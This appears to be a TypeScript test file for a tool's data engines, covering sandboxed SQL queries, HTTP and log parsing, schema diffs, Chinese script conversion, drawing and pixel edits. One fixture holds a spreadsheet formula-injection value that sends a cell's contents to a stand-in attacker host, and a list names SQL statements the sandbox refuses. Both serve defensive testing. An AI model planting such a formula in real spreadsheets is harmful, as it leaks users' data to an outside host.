import { deepEqual, equal, match, ok, rejects, throws } from 'node:assert/strict';
import { test } from 'vitest';
import type { Entity } from '../../data/entity.ts';
import { toSimplified, toTraditional } from './engines/chinese.ts';
import { drawingOf } from './engines/draw.ts';
import { plainQuery, scratchTables } from './engines/sql.ts';
import { engines } from './engines.ts';
import { type Given, type GivenTable, OperationProblem, type Result } from './operation.ts';
import { blurArea, differenceOf, fillFromAround, type Pixels, recolor } from './pixels.ts';
import { rowsFrom } from './save-result.ts';

const tables: GivenTable[] = [
  {
    name: 'Books',
    columns: [
      { label: 'id', isNumber: true },
      { label: 'Title', isNumber: false },
      { label: 'Shelf price', isNumber: true },
    ],
    rows: [
      [1, 'Tides', 12],
      [2, "Ada's mill", 8],
      [3, 'Oats', null],
    ],
  },
  { name: 'Loans', columns: [{ label: 'Book', isNumber: true }], rows: [[1], [1], [2]] },
];

async function run(engine: string, texts: string[], about: Partial<Given> = {}): Promise<Result> {
  const found = engines.get(engine);
  ok(found, engine);
  const inputs = texts.map((text) => ({ label: 'Text', kind: 'long-text' as const, text }));
  return found({ inputs, rows: [], seed: 7, operation: { name: 'Do it', verb: 'Do' }, ...about });
}
const ask = (query: string) => run('sql-query', [query], { tables });

test('a query reads the lists it was given', async () => {
  const result = await ask(
    'select title, count(book) as loans from books left join loans on loans.book = books.id group by books.id order by loans desc; -- all',
  );
  deepEqual(result.table, {
    head: ['Title', 'loans'].map((name) => name.toLowerCase()),
    rows: [
      ['Tides', '2'],
      ["Ada's mill", '1'],
      ['Oats', '0'],
    ],
  });
  equal((await ask('select avg(shelf_price) as a from books')).table?.rows[0]?.[0], '10');
  const asJson = await run('sql-query', ['select id from books where id = 2'], {
    tables,
    inputs: [
      { label: 'Query', kind: 'long-text', text: 'select id from books where id = 2' },
      { label: 'Format', kind: 'choice', text: 'JSON' },
    ],
  });
  deepEqual(JSON.parse(asJson.text ?? ''), { id: '2' });
  match((await run('sql-query', ['select name from customers'])).facts?.[0]?.label ?? '', /Sample database/);
});

test('what others wrote is no formula in the spreadsheet of a query', async () => {
  const [books] = tables;
  ok(books);
  const hostile = { ...books, rows: [[1, '=HYPERLINK("https://evil.example?"&B1)', -4.5]] };
  const { file } = await run('sql-query', ['select title, shelf_price from books'], { tables: [hostile] });
  equal(file?.content, '"title","shelf_price"\r\n"\'=HYPERLINK(""https://evil.example?""&B1)",-4.5\r\n');
});

test.each([
  'delete from books',
  'with b as (select 1) delete from books',
  "attach 'x.db' as other",
  'select load_extension(1)',
  'pragma table_info(books)',
  'select * from pragma_database_list',
  "select * from json_each('[1]')",
  'with recursive r(x) as (select 1 union all select x + 1 from r) select count(*) from r',
  'select zeroblob(100000000)',
  'select * from missing',
])('a query that does more than read the lists is refused: %s', async (query) => {
  await rejects(ask(query), OperationProblem);
});

test('a query that takes too long is stopped', async () => {
  const long = `select count(*) from ${Array.from({ length: 24 }, (_, at) => `books b${at}`).join(', ')}`;
  await rejects(ask(long), /took too long/);
}, 20_000);

test('names of lists and fields become names of tables and columns', () => {
  const [first] = scratchTables([{ name: '2 Überschriften', columns: [{ label: 'A b' }, { label: 'a-B' }] as never, rows: [] }]);
  equal(first?.name, '_2_uberschriften');
  deepEqual(
    first?.columns.map(({ name }) => name),
    ['a_b', 'a_b_2'],
  );
  equal(plainQuery("select ';--' as a; /* b */"), "select ';--' as a");
  throws(() => plainQuery('-- nothing'), OperationProblem);
});

test('messages, addresses and logs are taken apart', async () => {
  const request = await run('parse', [
    'POST /notes?draft=1 HTTP/1.1\nHost: mill.example\nContent-Type: application/json\n\n{"a":"b"}',
  ]);
  deepEqual(request.table?.rows, [
    ['Query', 'draft', '1'],
    ['Header', 'Host', 'mill.example'],
    ['Header', 'Content-Type', 'application/json'],
    ['Body', 'a', 'b'],
  ]);
  match(request.text ?? '', /^HTTP\/1\.1 201 Created/);
  match((await run('parse', ['GET / HTTP/1.1\nContent-Length: 9\n\nabc'])).summary, /needs a Host header.*says 9/);
  equal((await run('parse', ['HTTP/1.1 404 Not Found\nA: b\n\nNone'])).summary, 'Response 404 Not Found: error of the client.');
  deepEqual((await run('parse', ['https://mill.example/a?b=c'])).table?.rows, [['b', 'c']]);
  const log = await run('parse', ['2026-03-04 10:00:01 INFO It starts\n2026-03-04 10:00:02 ERROR It ends']);
  deepEqual(log.bars, [
    { label: 'INFO', value: 1 },
    { label: 'ERROR', value: 1 },
  ]);
  equal((await run('parse', ['[{"a":1},{"a":2}]'])).summary, 'JSON with 2 records of 1 value.');
});

test('two schemas give the statements between them', async () => {
  const old = 'create table note (id integer primary key, text varchar(20), old text); create table gone (id int);';
  const next =
    'create table note (id integer primary key, text text, price decimal(8, 2)); create table tag (id int, name text);';
  const { text, facts } = await run('schema-diff', [old, next]);
  equal(
    text,
    `BEGIN;
ALTER TABLE note ALTER COLUMN text TYPE text; -- check the rows first
ALTER TABLE note ADD COLUMN price decimal(8, 2);
ALTER TABLE note DROP COLUMN old; -- loses its values
CREATE TABLE tag (
  id int,
  name text
);
DROP TABLE gone; -- loses its rows
COMMIT;`,
  );
  equal(facts?.[2]?.value, '2');
  equal((await run('schema-diff', [old, old])).summary, 'The two schemas are the same.');
});

test('Chinese characters change their script, by words where one has two forms', async () => {
  equal(toTraditional('头发发展，干净的后面'), '頭髮發展，乾淨的後面');
  equal(toSimplified('頭髮發展，乾淨的後面'), '头发发展，干净的后面');
  const { text } = await run('change-script', ['汉语'], {
    operation: { name: 'Convert Simplified Chinese to Traditional Chinese', verb: 'Convert' },
  });
  equal(text, '漢語');
});

test('a drawing has what its words name, and no word gets into it', () => {
  const { svg, drawn } = drawingOf('A red boat on the sea at sunset, two birds <script>', 'cartoon', 5);
  deepEqual(drawn, ['boat', 'sunset', 'birds', 'evening', 'water']);
  ok(svg.includes('#d62828') && !svg.includes('<script>'));
});

test('the lines of a browser become facts, however a form sends them', async () => {
  const made = { name: 'a.png', facts: 'Size: 4 × 4 pixels\r\nFormat: SVG\r\nno line' };
  const { facts, picture } = await run('edit-picture', ['a'], { made });
  deepEqual([facts?.length, picture], [2, { name: 'a.png', isSvg: true }]);
  await rejects(run('edit-picture', ['a']), OperationProblem);
});

const filled = (width: number, height: number, color: number[]): Pixels => ({
  width,
  height,
  data: Uint8ClampedArray.from(Array.from({ length: width * height }, () => color).flat()),
});

test('pictures: difference, fill, blur and colors', () => {
  const [one, other] = [filled(4, 4, [10, 10, 10, 255]), filled(4, 4, [10, 10, 10, 255])];
  equal(differenceOf(one, other).changed, 0);
  other.data.set([255, 255, 255], 0);
  equal(differenceOf(one, other).changed, 1 / 16);
  fillFromAround(other, { left: 0, top: 0, width: 1, height: 1 });
  deepEqual([...other.data.slice(0, 4)], [10, 10, 10, 255]);
  other.data.set([250, 250, 250], 20);
  blurArea(other, { left: 0, top: 0, width: 4, height: 4 });
  deepEqual([...other.data.slice(20, 23)], [25, 25, 25]);
  recolor(one, 'Invert', 50);
  deepEqual([...one.data.slice(0, 4)], [122, 122, 122, 255]);
});

test('a result becomes rows: cells by the name of a field, the rest in a text', () => {
  const field = (id: string, label: string, type: object, required = false) => ({ id, label, type, required, help: '' });
  const movie = {
    titleField: 'name',
    fields: [
      field('name', 'Name', { kind: 'text', maxLength: 10 }, true),
      field('year', 'Year', { kind: 'integer', min: null, max: null }),
      field('kind', 'Kind', { kind: 'choice', options: [{ id: 'long', label: 'Long one' }] }, true),
      field('notes', 'Notes', { kind: 'long-text', maxLength: 100 }),
    ],
  } as unknown as Entity;
  const table = { head: ['Number', 'Name', 'YEAR'], rows: [['1', 'Tides of the mill', '1999']] };
  deepEqual(rowsFrom(movie, { summary: '', table }, ''), [
    { name: 'Tides of t', year: '1999', notes: 'Number: 1', kind: 'long' },
  ]);
  deepEqual(rowsFrom(movie, { summary: 'Done.', text: 'All' }, 'a.txt'), [{ name: 'a.txt', notes: 'All', kind: 'long' }]);
});
